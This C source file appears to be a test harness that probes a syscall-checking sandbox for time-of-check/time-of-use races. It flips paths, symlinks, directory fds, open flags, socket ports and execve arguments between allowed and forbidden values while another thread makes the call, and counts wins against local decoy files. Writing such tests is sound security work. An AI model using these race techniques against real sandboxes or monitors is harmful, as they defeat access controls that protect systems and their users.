/*
 * Races against whoever looks first and acts afterwards: one thread asks, another one flips what is
 * asked for between what is allowed and what is not.
 *
 *   race KIND TRIES GOOD BAD [PORT BADPORT]
 *
 * GOOD and BAD are directories with a file `f` each, of the same length of name; BAD is forbidden, and
 * its file begins with `secret`.  Prints `KIND: N tries, N allowed, N won`; a win is the forbidden
 * done.  Static, by bare system calls: no hook is in the way.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define DECOY "decoy-7c1f"

static const char *good, *bad;
static char paths[2][4096];
static char path[4096];
static struct open_how how;
static struct sockaddr_in addresses[2], address;
static int dirs[2], dir = -1;
static char word[8];
static atomic_bool over;
static atomic_uint turns;

/* --- flips: which = 0 allowed, 1 forbidden --------------------------------------------------------- */

static void flip_path(int which)
{
	memcpy(path, paths[which], strlen(paths[which]) + 1);
}

static void flip_symlink(int which)
{
	(void)symlink(paths[which], "link.new");
	(void)rename("link.new", "link");
}

static void flip_directory_link(int which)
{
	(void)symlink(which ? bad : good, "dlink.new");
	(void)rename("dlink.new", "dlink");
}

/* A directory in the place of a link to the forbidden one, and back. */
static void flip_rename(int which)
{
	(void)syscall(SYS_renameat2, AT_FDCWD, which ? "aside" : "place", AT_FDCWD, which ? "place" : "aside",
		      2);
}

static void flip_dirfd(int which)
{
	(void)dup2(dirs[which], dir);
}

static void flip_cwd(int which)
{
	(void)fchdir(dirs[which]);
}

static void flip_address(int which)
{
	*(volatile uint16_t *)&address.sin_port = addresses[which].sin_port;
}

static void flip_how(int which)
{
	*(volatile uint64_t *)&how.flags = which ? O_WRONLY : O_RDONLY;
}

static void flip_word(int which)
{
	memcpy(word, which ? "wipe" : "show", 4);
}

/* --- tries ------------------------------------------------------------------------------------------- */

enum outcome { DENIED, ALLOWED, WON };

static enum outcome see(int fd)
{
	char buf[64];
	ssize_t n;

	if (fd < 0)
		return DENIED;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0 && memmem(buf, (size_t)n, DECOY, strlen(DECOY)) ? WON : ALLOWED;
}

static enum outcome try_path(void)
{
	return see((int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0));
}

static enum outcome try_openat2(void)
{
	struct open_how h = { .flags = O_RDONLY };

	return see((int)syscall(SYS_openat2, AT_FDCWD, path, &h, sizeof(h)));
}

static enum outcome try_symlink(void)
{
	return see((int)syscall(SYS_openat, AT_FDCWD, "link", O_RDONLY, 0));
}

static enum outcome try_directory_link(void)
{
	return see((int)syscall(SYS_openat, AT_FDCWD, "dlink/f", O_RDONLY, 0));
}

static enum outcome try_rename(void)
{
	return see((int)syscall(SYS_openat, AT_FDCWD, "place/f", O_RDONLY, 0));
}

static enum outcome try_dirfd(void)
{
	return see((int)syscall(SYS_openat, dir, "f", O_RDONLY, 0));
}

static enum outcome try_cwd(void)
{
	return see((int)syscall(SYS_openat, AT_FDCWD, "f", O_RDONLY, 0));
}

/* What is forbidden here is to write: the file is looked at when all is over. */
static enum outcome try_how(void)
{
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, paths[1], &how, sizeof(how));
	bool writes = fd >= 0 && (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY;

	if (fd >= 0)
		close(fd);
	return fd < 0 ? DENIED : writes ? WON : ALLOWED;
}

/* unlink of a path that is flipped: only the allowed one may go. */
static enum outcome try_unlink(void)
{
	struct stat st;
	int r, fd = open(paths[0], O_WRONLY | O_CREAT, 0600);

	close(fd);
	r = (int)syscall(SYS_unlink, path);
	return stat(paths[1], &st) < 0 ? WON : r == 0 ? ALLOWED : DENIED;
}

static enum outcome try_address(void)
{
	struct sockaddr_in peer;
	socklen_t len = sizeof(peer);
	struct linger hard = { 1, 0 };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	enum outcome o = DENIED;

	setsockopt(s, SOL_SOCKET, SO_LINGER, &hard, sizeof(hard));
	if (syscall(SYS_connect, s, &address, sizeof(address)) == 0 &&
	    getpeername(s, (void *)&peer, &len) == 0)
		o = peer.sin_port == addresses[1].sin_port ? WON : ALLOWED;
	close(s);
	return o;
}

/* `esctool wipe` is denied, `esctool show` is not; it makes the files of these names. */
static enum outcome try_argv(void)
{
	char *argv[] = { (char *)"esctool", word, NULL }, *envp[] = { NULL };
	struct stat st;
	int status;
	pid_t pid = vfork(); /* the child's memory is ours, and so the flipper's */

	if (pid == 0) {
		syscall(SYS_execve, paths[0], argv, envp);
		_exit(126);
	}
	waitpid(pid, &status, 0);
	if (stat("wipe", &st) == 0 && unlink("wipe") == 0)
		return WON;
	return status == 0 ? ALLOWED : DENIED;
}

/* --- the race ------------------------------------------------------------------------------------------ */

static const struct kind {
	const char *name;
	void (*flip)(int which);
	enum outcome (*try)(void);
} kinds[] = {
	{ "path", flip_path, try_path },
	{ "openat2", flip_path, try_openat2 },
	{ "symlink", flip_symlink, try_symlink },
	{ "directory", flip_directory_link, try_directory_link },
	{ "rename", flip_rename, try_rename },
	{ "dirfd", flip_dirfd, try_dirfd },
	{ "cwd", flip_cwd, try_cwd },
	{ "how", flip_how, try_how },
	{ "unlink", flip_path, try_unlink },
	{ "address", flip_address, try_address },
	{ "argv", flip_word, try_argv },
};

static void *flipper(void *arg)
{
	const struct kind *k = arg;

	while (!atomic_load(&over)) {
		k->flip(1);
		for (volatile unsigned i = 0; i < atomic_load(&turns) % 512; i++)
			;
		k->flip(0);
		for (volatile unsigned i = 0; i < atomic_load(&turns) % 64; i++)
			;
		atomic_fetch_add(&turns, 7);
	}
	return NULL;
}

static void prepare(int argc, char **argv)
{
	good = argv[3];
	bad = argv[4];
	for (int i = 0; i < 2; i++) {
		snprintf(paths[i], sizeof(paths[i]), "%s/f", argv[3 + i]);
		dirs[i] = open(argv[3 + i], O_PATH | O_DIRECTORY);
		addresses[i] =
			(struct sockaddr_in){ .sin_family = AF_INET,
					      .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
					      .sin_port =
						      htons(argc > 5 + i ? (uint16_t)atoi(argv[5 + i]) : 0) };
	}
	dir = dup(dirs[0]);
	address = addresses[0];
	memcpy(word, "show", 5);
	flip_path(0);
	flip_symlink(0);
	flip_directory_link(0);
	(void)mkdir("place", 0755);
	(void)link(paths[0], "place/f");
	(void)symlink(bad, "aside");
}

static int race(const struct kind *k, unsigned long tries)
{
	unsigned long count[3] = { 0 };
	pthread_t t;

	if (pthread_create(&t, NULL, flipper, (void *)k) != 0)
		return 2;
	while (atomic_load(&turns) == 0)
		sched_yield();
	for (unsigned long i = 0; i < tries; i++)
		count[k->try()]++;
	atomic_store(&over, true);
	pthread_join(t, NULL);
	printf("%s: %lu tries, %lu allowed, %lu won\n", k->name, tries, count[ALLOWED], count[WON]);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 5) {
		fprintf(stderr, "usage: race KIND TRIES GOOD BAD [PORT BADPORT]\n");
		return 2;
	}
	prepare(argc, argv);
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, argv[1]) == 0)
			return race(&kinds[i], strtoul(argv[2], NULL, 10));
	fprintf(stderr, "race: no kind %s\n", argv[1]);
	return 2;
}
